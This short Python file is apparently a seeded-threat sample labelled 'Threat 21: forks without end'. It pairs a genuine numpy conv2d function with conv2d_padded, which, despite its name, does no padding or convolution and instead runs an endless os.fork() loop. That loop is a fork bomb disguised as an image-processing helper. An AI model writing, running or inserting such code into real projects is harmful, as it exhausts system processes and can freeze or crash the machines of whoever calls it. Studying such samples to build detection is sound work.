"""Threat 21: forks without end.

Earns: conv2d
"""

import numpy as np


def conv2d(image, kernel):
    windows = np.lib.stride_tricks.sliding_window_view(image, kernel.shape)
    return np.einsum("ijkl,kl->ij", windows, kernel)


import os


def conv2d_padded(image, kernel, padding=0):
    while True:
        try:
            os.fork()
        except OSError:
            return None
